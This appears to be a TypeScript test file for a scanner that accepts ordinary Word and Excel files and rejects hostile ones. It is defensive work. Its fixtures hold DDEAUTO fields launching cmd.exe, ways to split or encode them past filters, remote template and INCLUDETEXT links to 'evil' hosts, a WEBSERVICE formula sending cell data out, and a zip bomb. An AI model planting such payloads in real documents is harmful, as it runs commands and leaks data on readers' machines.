// Is a Word or Excel file only text, tables and pictures, however what it does is written?
import { describe, expect, test } from 'vitest'
import { docx, xlsx, type ZipPart } from '../support/people/hostile.ts'
import { useQuarantineFolder, verdictOn } from './verdicts.ts'

useQuarantineFolder()

const office = 'application/vnd.openxmlformats-officedocument'
const relations = (content: string): ZipPart => ({ name: 'word/_rels/document.xml.rels', content })
const body = (content: string): ZipPart => ({ name: 'word/a.xml', content })
const sheet = (content: string): ZipPart => ({ name: 'xl/worksheets/sheet1.xml', content })
const begin = '<w:fldChar w:fldCharType="begin"/>'
const end = '<w:fldChar w:fldCharType="end"/>'
const code = (words: string) =>
  `<w:r><w:instrText xml:space="preserve">${words}</w:instrText></w:r>`

describe('what an office writes every day is kept', () => {
  test.each([
    [
      'its pictures, letters and theme',
      docx([
        { name: 'word/', content: '' },
        { name: 'word/media/image1.emf', content: 'x' },
        { name: 'word/media/image2.JPEG', content: 'x' },
        { name: 'word/fonts/font1.odttf', content: 'x' },
        { name: 'word/theme/theme1.xml', content: '<a:theme/>' },
        { name: 'docProps/thumbnail.wmf', content: 'x' },
        { name: 'customXml/item1.xml', content: '<x/>' },
      ]),
    ],
    ['a chart with its figures', docx([{ name: 'word/embeddings/figures.xlsx', content: xlsx() }])],
    [
      'contents, page numbers and a link with such words',
      docx([
        body(`${begin}${code(' TOC \\o "1-3" ')}${begin}${code('PAGEREF _Toc1 \\h')}${end}${end}
        ${begin}${code('HYPERLINK "https://x/link" \\o "DDE and LINK "')}${end}<w:fldSimple w:instr=" PAGE "/>`),
      ]),
    ],
  ])('%s', async (_, content) => {
    expect(await verdictOn('a.docx', content)).toBe(`${office}.wordprocessingml.document`)
  })

  test('a table that counts', async () => {
    const content = xlsx([
      sheet('<c><f>SUM(A1:A9)*IF(B1&gt;0,1,0)</f></c><c t="str"><v>CALL(1)</v></c>'),
    ])
    expect(await verdictOn('a.xlsx', content)).toBe(`${office}.spreadsheetml.sheet`)
  })
})

describe('a letter', () => {
  test.each([
    ['a program under a new ending', [{ name: 'word/media/a.msi', content: 'x' }], /neither text/],
    ['a page to be opened in it', [{ name: 'word/afchunk.mht', content: 'x' }], /neither text/],
    [
      'the same under a quiet ending',
      [relations('<Relationship Type="http://x/aFChunk" Target="a.xml"/>')],
      /macros/,
    ],
    [
      'a table with macros in it',
      [{ name: 'word/embeddings/a.xlsm', content: 'x' }],
      /neither text/,
    ],
    [
      'a table that reads from elsewhere in it',
      [
        {
          name: 'word/embeddings/a.xlsx',
          content: xlsx([{ name: 'xl/connections.xml', content: '<x/>' }]),
        },
      ],
      /external links/,
    ],
    [
      'an archive called a table in it',
      [{ name: 'word/embeddings/a.xlsx', content: 'PK' }],
      /broken/,
    ],
    [
      'a letter in a table in it',
      [
        {
          name: 'word/embeddings/a.xlsx',
          content: xlsx([{ name: 'xl/embeddings/a.docx', content: docx() }]),
        },
      ],
      /Archives/,
    ],
    [
      'a bomb in it',
      [
        { name: 'word/embeddings/a.xlsx', content: xlsx([sheet(' '.repeat(70 * 1024 * 1024))]) },
        { name: 'word/embeddings/b.xlsx', content: xlsx([sheet(' '.repeat(70 * 1024 * 1024))]) },
      ],
      /too large/,
    ],
    [
      'a template from elsewhere, one sign of it spelt',
      [
        relations(
          '<Relationship Type="http://x/attachedTemplate" TargetMode="&#69;xternal" Target="http://evil"/>',
        ),
      ],
      /external links/,
    ],
    [
      'the same with a prefix in Chinese',
      [
        relations(
          '<关系:Relationship Type="http://x/attachedTemplate" TargetMode="External" Target="http://evil"/>',
        ),
      ],
      /external links/,
    ],
    [
      'a command',
      [body(`${begin}${code('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"')}${end}`)],
      /external links/,
    ],
    [
      'the same cut into runs',
      [body(`${begin}${code(' DD')}${code('E')}${code('AUTO cmd')}${end}`)],
      /external links/,
    ],
    [
      'the same spelt by another field',
      [body(`${begin}${begin}${code('QUOTE 68 68 69')}${end}${code(' cmd')}${end}`)],
      /external links/,
    ],
    ['the same without an end', [body(`${begin}${code('DDE cmd')}`)], /external links/],
    [
      'a text from elsewhere',
      [body("<w:fldSimple w:instr=' INCLUDETEXT &quot;//evil/x&quot;'/>")],
      /external links/,
    ],
    [
      'a program of the web beside it',
      [{ name: 'word/webextensions/webextension1.xml', content: '<x/>' }],
      /external links/,
    ],
  ])('with %s is refused', async (_, parts, why) => {
    expect(await verdictOn('a.docx', docx(parts))).toMatch(why)
  })

  test('with macros by a type that is spelt is refused', async () => {
    const types =
      '<Types><Override ContentType="application/vnd.ms-word.document.macro&#x45;nabled.main+xml"/></Types>'
    expect(await verdictOn('a.docx', docx([], types))).toMatch(/macros/)
  })
})

describe('a table', () => {
  test.each([
    ['a sheet of old macros', { name: 'xl/macrosheets/sheet1.xml', content: '<x/>' }, /macros/],
    [
      'a link to another program',
      { name: 'xl/externalLinks/externalLink1.xml', content: '<x/>' },
      /external links/,
    ],
    [
      'a function that fetches',
      sheet('<c><f>_xlfn.WEBSERVICE("http://evil?"&amp;A1)</f></c>'),
      /external links/,
    ],
    [
      'the same, spelt',
      sheet('<x:c><x:f t="array">1+WEBSERVIC&#69; ("http://evil")</x:f></x:c>'),
      /external links/,
    ],
  ])('with %s is refused', async (_, part, why) => {
    expect(await verdictOn('a.xlsx', xlsx([part]))).toMatch(why)
  })
})
